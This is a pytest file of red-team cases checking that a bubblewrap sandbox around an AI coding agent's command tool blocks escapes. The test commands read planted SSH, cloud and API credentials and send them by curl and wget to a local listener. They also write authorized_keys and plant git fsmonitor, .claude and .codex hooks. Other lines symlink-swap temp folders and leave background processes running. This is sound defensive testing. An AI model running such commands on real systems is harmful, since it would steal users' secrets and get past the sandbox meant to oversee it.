"""Red-team cases of issue 13 against the real bubblewrap sandbox of ``run_command``.

Each test calls the tool handler directly (no policy in the way), so what is checked is what
the sandbox itself prevents. Skipped with a reason where bubblewrap cannot run; CI installs it.
"""

from __future__ import annotations

import os
import socket
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from mycode_builtin_tools import sandbox
from mycode_builtin_tools.tools import run_command as rc

from mycode_core.config import Settings
from mycode_core.records import RunContext

pytestmark = pytest.mark.skipif(
    sandbox.bwrap_path() is None, reason=f"no sandbox here: {sandbox.unavailable_reason()}"
)
SECRET = "s3cr3t-planted-value"


@pytest.fixture
def user_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home folder with planted credentials, and secrets in the environment."""
    home = tmp_path / "userhome"
    for rel in (".ssh/id_rsa", ".aws/credentials", ".config/gcloud/creds.json", ".kube/config"):
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(SECRET)
    for rel in (".netrc", ".git-credentials", ".npmrc", ".pypirc", ".bashrc"):
        (home / rel).write_text(SECRET)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("GITHUB_TOKEN", SECRET)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.setenv("MY_SERVICE_SECRET", SECRET)
    return home


def _ctx(workspace: Path, home: Path, **settings: Any) -> RunContext:
    return RunContext(
        workspace=workspace, home=home, settings=Settings(**settings), session_id="sbx"
    )


def _run(ctx: RunContext, command: str, timeout: int = 60) -> str:
    result = rc.run_command.handler({"command": command, "timeout": timeout}, ctx)
    assert result.metadata.get("sandboxed") is True
    return result.text()


def test_home_and_outside_writes_fail(workspace: Path, home: Path, user_home: Path) -> None:
    outside = workspace.parent / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("keep")
    ctx = _ctx(workspace, home)
    _run(ctx, "cd ~ && echo X >> .bashrc")
    _run(ctx, "mkdir -p ~/.ssh; cd ~/.ssh && echo key >> authorized_keys")
    _run(ctx, f"printf 'b\\na\\n' > in.txt; sort -o {outside}/x in.txt")
    _run(ctx, f"python3 -c \"import shutil; shutil.rmtree('{outside}')\"")
    _run(ctx, "echo inside > made-here.txt")
    assert (user_home / ".bashrc").read_text() == SECRET
    assert not (user_home / ".ssh" / "authorized_keys").exists()
    assert not (outside / "x").exists() and (outside / "keep.txt").read_text() == "keep"
    assert (workspace / "made-here.txt").read_text() == "inside\n"


def test_tmp_is_private(workspace: Path, home: Path) -> None:
    victim = Path("/tmp") / f"mycode-victim-{os.getpid()}"
    victim.mkdir(exist_ok=True)
    (victim / "f").write_text("x")
    # a name of this test's own: whatever the host has in /tmp (a /tmp/t folder) is no matter
    marker = Path("/tmp") / f"mycode-tmp-private-{os.getpid()}-{uuid.uuid4().hex}"
    try:
        script = f"ls /tmp; rm -rf {victim}; echo tmp-ok > {marker}; cat {marker}"
        out = _run(_ctx(workspace, home), script)
        assert victim.name not in out and "tmp-ok" in out  # written inside
        assert (victim / "f").read_text() == "x"
        assert not marker.exists()  # written in the sandbox's own /tmp, not the host's
    finally:
        marker.unlink(missing_ok=True)
        (victim / "f").unlink(missing_ok=True)
        victim.rmdir()


def test_tmp_is_the_sessions_own_from_one_command_to_the_next(workspace: Path, home: Path) -> None:
    """A script a model writes to ``/tmp`` in one call runs in the next (skills stage files
    there); another session does not see it, and it is gone when its session ends."""
    ctx = _ctx(workspace, home)
    _run(ctx, "mkdir -p /tmp/stage && echo staged > /tmp/stage/a.txt")
    assert _run(ctx, "cat /tmp/stage/a.txt").splitlines()[0] == "staged"
    other = RunContext(workspace=workspace, home=home, settings=Settings(), session_id="other")
    assert "No such file" in _run(other, "cat /tmp/stage/a.txt")
    folder = rc.session_tmp(ctx)
    assert (folder / "stage" / "a.txt").is_file() and (folder.stat().st_mode & 0o077) == 0
    rc.drop_session_tmp("sbx")
    assert not folder.exists()
    rc.drop_session_tmp("other")


def test_the_sessions_tmp_is_removed_when_the_run_ends(tmp_path: Path, workspace: Path) -> None:
    from mycode_core.testing import run_cli, write_script

    write = {"name": "run_command", "arguments": {"command": "echo kept > /tmp/note"}}
    read = {"name": "run_command", "arguments": {"command": "cat /tmp/note"}}
    script = write_script(tmp_path / "s.json", [{"tool_calls": [write]}, {"tool_calls": [read]}])
    home = tmp_path / "mycode-home"
    run = run_cli(["-p", "go", "--model", script, "--output-format", "stream-json"],
                  workspace, home)  # fmt: skip
    assert run.rc == 0, run.stderr
    assert run.of_type("tool_result")[1]["content"].splitlines()[0] == "kept"
    session = run.of_type("system")[0]["session_id"]
    assert not (home / "artifacts" / session / ".command-tmp").exists()


def test_a_command_cannot_point_the_next_commands_tmp_elsewhere(
    workspace: Path, home: Path, tmp_path: Path
) -> None:
    """The host folder shown as ``/tmp`` lies out of the commands' reach: swapping it (or
    anything in the writable ``.commands`` folder) for a symlink to a host folder did not
    make that folder the next command's writable ``/tmp`` (it made MYCODE_HOME writable)."""
    victim = tmp_path / "victim"
    victim.mkdir()
    ctx = _ctx(workspace, home)
    _run(ctx, "echo first > /tmp/mine")
    swap = f"""d=$(dirname "$MYCODE_CWD_FILE"); for t in "$d/tmp" "$d/../.command-tmp"; do
        rm -rf "$t" 2>/dev/null; ln -s {victim} "$t" 2>/dev/null; done; true"""
    _run(ctx, swap)
    _run(ctx, "echo planted > /tmp/plugin.py")
    assert list(victim.iterdir()) == []
    assert _run(ctx, "cat /tmp/mine /tmp/plugin.py").split()[:2] == ["first", "planted"]
    rc.drop_session_tmp("sbx")


@pytest.mark.parametrize("swap", ["ln -sf {secret}", "rm -f $f; mkfifo"], ids=["link", "fifo"])
def test_the_working_folder_file_is_never_followed_out(
    workspace: Path, home: Path, tmp_path: Path, swap: str
) -> None:
    """mycode reads back where a command ended from a file the command can write: swapped for
    a link to a host secret it is not followed (the secret showed as "ended in /…/<secret>"),
    swapped for a FIFO it does not hang the call."""
    secret = tmp_path / "id_key"
    secret.write_text("SECRET-KEY-MATERIAL\n")
    ctx = _ctx(workspace, home)
    command = swap.format(secret=secret)
    out = _run(ctx, f'f="$MYCODE_CWD_FILE"; trap - EXIT; {command} "$f"; exit 0', timeout=30)
    assert "SECRET-KEY-MATERIAL" not in out
    assert _run(ctx, "echo next").splitlines()[0] == "next"


def test_a_config_folder_a_command_creates_is_taken_back(workspace: Path, home: Path) -> None:
    """Where ``.mycode/`` and ``.claude/`` do not exist nothing can be bound read-only: a
    command that creates them (a plugin file the next trusted run would import, a hook it
    would run, both outside the sandbox) has them moved under ``MYCODE_HOME`` after it."""
    plant = (
        "import os; os.makedirs('.my' + 'code/plugins'); "
        "open('.my' + 'code/plugins/evil.py', 'w').write('x = 1'); "
        "os.makedirs('.cla' + 'ude'); open('.cla' + 'ude/settings.json', 'w').write('{}')"
    )
    out = _run(_ctx(workspace, home), f'python3 -c "{plant}"; git init -q && echo made')
    assert not (workspace / ".mycode").exists() and not (workspace / ".claude").exists()
    assert "made" in out and (workspace / ".git").is_dir()  # a new repository is no config
    kept = sorted(home.glob("artifacts/sbx/taken-back/*/.mycode/plugins/evil.py"))
    assert len(kept) == 1 and kept[0].read_text() == "x = 1"  # nothing is lost
    assert "created .mycode/" in out and "created .claude/" in out
    assert str(kept[0].parents[1]) in out  # where it is now


def test_codex_hooks_are_config_too(workspace: Path, home: Path) -> None:
    """mycode runs ``.codex/hooks.json`` as it runs ``.claude/settings.json``: a ``.codex/``
    that exists is read-only inside the sandbox, one a command creates is taken back."""
    hook = """{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "id"}]}]}}"""
    plant = f"mkdir -p .codex && echo '{hook}' > .codex/hooks.json; echo made"
    out = _run(_ctx(workspace, home), plant)
    assert "made" in out and not (workspace / ".codex").exists()
    kept = sorted(home.glob("artifacts/sbx/taken-back/*/.codex/hooks.json"))
    assert len(kept) == 1 and "SessionStart" in kept[0].read_text()
    assert "created .codex/" in out
    (workspace / ".codex").mkdir()
    out = _run(_ctx(workspace, home), f"echo '{hook}' > .codex/hooks.json; echo done")
    assert "done" in out and "Read-only file system" in out
    assert list((workspace / ".codex").iterdir()) == []


def test_what_a_command_created_in_a_config_folder_below_the_root_is_taken_back(
    tmp_path: Path,
) -> None:
    """Given what the change detection saw created: a new folder goes whole, out of one that
    was there only the new files, a link named like one goes too, anything else stays."""
    root, keep = tmp_path / "ws", tmp_path / "keep"
    for rel in ("a/.codex/hooks.json", "b/.claude/old.md", "b/.claude/settings.json", "d/x.txt"):
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(rel)
    (root / "c").mkdir()
    (root / "c" / ".mycode").symlink_to(root / "d")
    created = [
        "a/.codex/hooks.json",
        "b/.claude/settings.json",
        "c/.mycode",
        "d/x.txt",
        "gone/.claude/x",
    ]
    notes = sandbox.take_back_created(root, created, keep)
    assert not (root / "a" / ".codex").exists() and (keep / "a/.codex/hooks.json").is_file()
    assert [p.name for p in (root / "b" / ".claude").iterdir()] == ["old.md"]
    assert (keep / "b/.claude/settings.json").read_text() == "b/.claude/settings.json"
    assert not os.path.lexists(root / "c" / ".mycode") and (keep / "c" / ".mycode").is_symlink()
    assert (root / "d" / "x.txt").is_file()
    assert len(notes) == 3 and all("write_file, which asks" in note for note in notes)
    assert "created a/.codex/," in notes[0] and "created b/.claude/settings.json," in notes[1]


def test_credentials_and_mycode_home_hidden(workspace: Path, home: Path, user_home: Path) -> None:
    (home / "config.toml").write_text(f"api_key = '{SECRET}'\n")
    ctx = _ctx(workspace, home)
    reads = " ".join(
        f"cat ~/{rel} 2>/dev/null;"
        for rel in (
            ".ssh/id_rs?",
            ".aws/credentials",
            ".config/gcloud/creds.json",
            ".kube/config",
            ".netrc",
            ".git-credentials",
            ".npmrc",
            ".pypirc",
        )
    )
    out = _run(ctx, f"{reads} cat {home}/config.toml; ls -a {home}")
    code = "import os; print(open(os.path.expanduser('~/.ssh/id_rsa')).read())"
    out += _run(ctx, f'python3 -c "{code}"')
    assert SECRET not in out
    assert "config.toml" not in out.splitlines()  # MYCODE_HOME's listing is empty


MORE_SECRETS = (
    ".claude.json", ".config/io.datasette.llm/keys.json", ".cache/huggingface/token",
    ".huggingface/token", ".env", ".bash_history", ".zsh_history", ".python_history",
    ".node_repl_history", ".psql_history", ".mysql_history", ".sqlite_history",
    ".local/share/fish/fish_history",
)  # fmt: skip


def test_tokens_and_histories_in_the_home_folder_hidden(
    workspace: Path, home: Path, user_home: Path
) -> None:
    """Claude Code's MCP tokens, llm's and Hugging Face's keys, a home ``.env`` and the shell
    and REPL histories (passwords typed on a command line) read as empty inside."""
    for rel in MORE_SECRETS:
        (user_home / rel).parent.mkdir(parents=True, exist_ok=True)
        (user_home / rel).write_text(SECRET)
    (workspace / "here.txt").write_text("visible")
    reads = " ".join(f"cat ~/{rel};" for rel in MORE_SECRETS)
    ctx = _ctx(workspace, home)
    out = _run(ctx, f"{reads} cat here.txt")
    assert SECRET not in out and "visible" in out
    assert _run(ctx, "ls -A ~/.config/io.datasette.llm").startswith("(no output)")


def test_environment_scrubbed(workspace: Path, home: Path, user_home: Path) -> None:
    ctx = _ctx(workspace, home)
    out = _run(ctx, "env; echo $OPENAI_API_KEY $GITHUB_TOKEN")
    assert SECRET not in out
    assert "PATH=" in out
    kept = _ctx(workspace, home, sandbox={"env_passthrough": ["GITHUB_TOKEN"]})
    assert SECRET in _run(kept, "echo $GITHUB_TOKEN")


class _Listener:
    """A real TCP listener on 127.0.0.1 that records whatever reaches it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received = b""
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received += conn.recv(65536)
                    conn.sendall(b"HTTP/1.0 200 OK\r\n\r\nok")
                except OSError:
                    pass

    def close(self) -> None:
        self.stop.set()
        self.thread.join(timeout=5)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[_Listener]:
    server = _Listener()
    yield server
    server.close()


def test_no_network_exfiltration(
    workspace: Path, home: Path, user_home: Path, listener: _Listener
) -> None:
    (workspace / "data.txt").write_text(SECRET)
    url = f"http://127.0.0.1:{listener.port}/"
    ctx = _ctx(workspace, home)
    _run(ctx, f"python3 -c \"import urllib.request as u; u.urlopen('{url}?d={SECRET}')\"")
    _run(ctx, f"curl -s -m 5 '{url}?d='$(cat data.txt) || true")
    _run(ctx, f"wget -q -T 5 --post-file=data.txt {url} || true")
    assert SECRET.encode() not in listener.received
    allowed = _ctx(workspace, home, sandbox={"network": True})
    _run(allowed, f"python3 -c \"import urllib.request as u; u.urlopen('{url}?net=yes')\"")
    assert b"net=yes" in listener.received


def test_no_capabilities_no_remount_own_pid_namespace(workspace: Path, home: Path) -> None:
    ctx = _ctx(workspace, home)
    out = _run(ctx, "grep CapEff /proc/self/status; mount -o remount,rw / 2>&1; echo pid=$$")
    assert "CapEff:\t0000000000000000" in out
    assert "pid=" in out and int(out.split("pid=")[1].split()[0]) < 10
    _run(ctx, "touch /etc/mycode-remount-probe 2>/dev/null || true")
    assert not Path("/etc/mycode-remount-probe").exists()


def test_git_hooks_config_and_mycode_folder_read_only(workspace: Path, home: Path) -> None:
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".git" / "config").write_text("[core]\n")
    (workspace / ".mycode").mkdir()
    (workspace / ".mycode" / "config.toml").write_text("")
    ctx = _ctx(workspace, home)
    _run(ctx, "git config core.fsmonitor 'touch /tmp/pwned' 2>&1; echo x > .git/hooks/pre-commit")
    _run(ctx, "echo 'sandbox = \"off\"' > .mycode/config.toml; echo ok > .git/other")
    assert "fsmonitor" not in (workspace / ".git" / "config").read_text()
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    assert (workspace / ".mycode" / "config.toml").read_text() == ""
    assert not (workspace / ".git" / "other").exists()  # the whole .git is read-only


def _git_repo(path: Path) -> None:
    import subprocess

    path.mkdir(parents=True, exist_ok=True)
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    for args in (
        ["init", "-q"],
        ["config", "user.name", "t"],
        ["config", "user.email", "t@t"],
        ["commit", "-qm", "base", "--allow-empty"],
    ):
        subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", *args], cwd=path,
                       env=env, check=True, capture_output=True)  # fmt: skip


def test_dot_git_and_dot_claude_read_only_an_allowed_git_commit_works(
    workspace: Path, home: Path
) -> None:
    _git_repo(workspace)
    (workspace / ".claude").mkdir()
    config_before = (workspace / ".git" / "config").read_text()
    ctx = _ctx(workspace, home)
    attack = "echo x >> .git/config; touch .git/hooks/x; echo c > .git/commondir; "
    out = _run(ctx, attack + "echo '{}' > .claude/settings.json; mkdir .claude/hooks; echo done")
    assert "done" in out and "Read-only file system" in out
    assert (workspace / ".git" / "config").read_text() == config_before
    assert not (workspace / ".git" / "hooks" / "x").exists()
    assert not (workspace / ".git" / "commondir").exists()
    assert list((workspace / ".claude").iterdir()) == []
    (workspace / "f.txt").write_text("f")
    out = _run(
        ctx, "git add f.txt && git -c user.name=t -c user.email=t@t commit -qm f; echo rc=$?"
    )
    assert "rc=0" not in out  # -c on the line: .git stays read-only
    out = _run(ctx, "git add f.txt && git commit -qm 'add f'")
    assert "Read-only" not in out, out
    import subprocess

    log = subprocess.run(["git", "log", "--format=%s", "-1"], cwd=workspace,
                         capture_output=True, text=True, env={"PATH": os.environ["PATH"],
                         "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": "/dev/null"})  # fmt: skip
    assert log.stdout.strip() == "add f"
    # even a git-only call keeps config and hooks read-only
    _run(ctx, "git config core.fsmonitor ./evil.sh; echo rc=$?")
    assert "fsmonitor" not in (workspace / ".git" / "config").read_text()


def test_dot_git_file_and_its_gitdir_inside_read_only(workspace: Path, home: Path) -> None:
    import subprocess

    subprocess.run(["git", "init", "-q", "--separate-git-dir", str(workspace / "store")],
                   cwd=workspace, check=True, capture_output=True)  # fmt: skip
    assert (workspace / ".git").is_file()
    before = (workspace / ".git").read_text()
    ctx = _ctx(workspace, home)
    _run(ctx, "echo gitdir: /tmp > .git; echo x >> store/config; touch store/objects/x; echo ok")
    assert (workspace / ".git").read_text() == before
    assert "x" not in (workspace / "store" / "config").read_text().split()
    assert not (workspace / "store" / "objects" / "x").exists()
    assert (workspace / "store").resolve() in sandbox.read_only_paths(workspace)


def test_nothing_outlives_the_call(workspace: Path, home: Path, wait_gone) -> None:
    ctx = _ctx(workspace, home)
    _run(ctx, "setsid sleep 302.25 > /dev/null 2>&1 & (sleep 302.5 &) ; echo started")
    assert wait_gone("sleep 302.25") and wait_gone("sleep 302.5")


def test_cd_persists_inside_the_sandbox(workspace: Path, home: Path) -> None:
    (workspace / "sub" / "deeper").mkdir(parents=True)
    ctx = _ctx(workspace, home)
    assert "working directory is now sub" in _run(ctx, "cd sub")
    assert _run(ctx, "pwd").startswith(str(workspace / "sub"))
    _run(ctx, "cd deeper")
    assert _run(ctx, "pwd").startswith(str(workspace / "sub" / "deeper"))
    assert "outside the workspace" in _run(ctx, "cd /")


def test_configured_writable_path(workspace: Path, home: Path, tmp_path: Path) -> None:
    extra = tmp_path / "extra"
    extra.mkdir()
    ctx = _ctx(workspace, home, sandbox={"writable": [str(extra)]})
    _run(ctx, f"echo hi > {extra}/f")
    assert (extra / "f").read_text() == "hi\n"


def test_a_folder_a_plugin_opened_to_commands_is_writable(
    workspace: Path, home: Path, tmp_path: Path
) -> None:
    """``context.writable_roots`` (a plugin's data folder) is writable in the sandbox, as a
    configured one is; a folder beside it stays read-only."""
    opened, other = tmp_path / "plugin-data", tmp_path / "other"
    opened.mkdir()
    other.mkdir()
    ctx = _ctx(workspace, home)
    ctx.writable_roots.append(opened)
    _run(ctx, f"echo kept > {opened}/state; echo no > {other}/f")
    assert (opened / "state").read_text() == "kept\n"
    assert not (other / "f").exists()


def test_bypass_and_off_never_sandbox(workspace: Path, home: Path) -> None:
    for settings in ({"permission_mode": "bypass"}, {"sandbox": "off"}):
        result = rc.run_command.handler({"command": "echo $$"}, _ctx(workspace, home, **settings))
        assert result.metadata["sandboxed"] is False


def test_dot_claude_symlinked_inside_is_read_only(workspace: Path, home: Path) -> None:
    (workspace / "real").mkdir()
    (workspace / ".claude").symlink_to(workspace / "real")
    ctx = _ctx(workspace, home)
    _run(ctx, "echo '{}' > .claude/settings.json; echo '{}' > real/settings.json; echo ok")
    assert list((workspace / "real").iterdir()) == []


def test_programs_on_path_under_tmp_stay_and_nothing_else_of_tmp(
    workspace: Path, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A virtualenv or tool folder the user keeps under ``/tmp`` (on ``PATH``) still runs
    inside the sandbox, read-only; the rest of ``/tmp`` stays private."""
    base = Path(os.path.realpath(tmp_path))
    if base.parts[:2] != ("/", "tmp"):
        pytest.skip(f"the test folder {base} is not under /tmp")
    venv = base / "venv"
    (venv / "bin").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (venv / "lib").mkdir()
    (venv / "lib" / "data.txt").write_text("venv-data\n")
    tool = venv / "bin" / "mytool"
    tool.write_text(f"#!/bin/sh\ncat {venv}/lib/data.txt\n")
    tool.chmod(0o755)
    (base / "private.txt").write_text(SECRET)
    monkeypatch.setenv("PATH", f"{venv / 'bin'}{os.pathsep}{os.environ['PATH']}")
    out = _run(_ctx(workspace, home), f"mytool; cat {base}/private.txt; touch {venv}/new")
    assert "venv-data" in out
    assert SECRET not in out
    assert not (venv / "new").exists()
    assert sandbox.tmp_toolchains(f"/tmp{os.pathsep}relative/bin{os.pathsep}/usr/bin", []) == []


def test_readable_roots_visible_read_only_but_never_unmask(
    workspace: Path, home: Path, user_home: Path
) -> None:
    """``context.readable_roots`` (a skill's folder under ``MYCODE_HOME``) is visible to
    commands, read-only; a root that is or holds a masked folder (all of ``MYCODE_HOME``, the
    home with its ``.ssh``) or lies in a credential folder reveals nothing."""
    skill = home / "skills" / "tool"
    (skill / "scripts").mkdir(parents=True)
    (skill / "scripts" / "hello.sh").write_text("echo hello-from-skill\n")
    (home / "config.toml").write_text(SECRET)
    inside_ssh = user_home / ".ssh" / "sub"
    inside_ssh.mkdir()
    (inside_ssh / "k").write_text(SECRET)
    ctx = _ctx(workspace, home)
    ctx.readable_roots.extend([skill, home, user_home, inside_ssh])
    out = _run(
        ctx,
        f"bash {skill}/scripts/hello.sh; cat {home}/config.toml ~/.ssh/id_rsa {inside_ssh}/k; "
        f"touch {skill}/new",
    )
    assert "hello-from-skill" in out
    assert SECRET not in out
    assert not (skill / "new").exists()


def test_a_workspace_holding_the_home_folders_keeps_them_hidden(user_home: Path) -> None:
    """Run from ``~`` (the workspace holds ``~/.ssh`` and ``MYCODE_HOME``): the workspace bind
    must not bring back what the masks hid."""
    mycode_home = user_home / ".mycode"
    (mycode_home / "config.toml").parent.mkdir(parents=True)
    (mycode_home / "config.toml").write_text(f"# {SECRET}\n")
    out = _run(
        _ctx(user_home, mycode_home),
        "cat .ssh/id_rsa .aws/credentials .mycode/config.toml; echo x >> .mycode/config.toml; "
        "echo made > here.txt",
    )
    assert SECRET not in out
    assert (mycode_home / "config.toml").read_text() == f"# {SECRET}\n"
    assert (user_home / "here.txt").read_text() == "made\n"
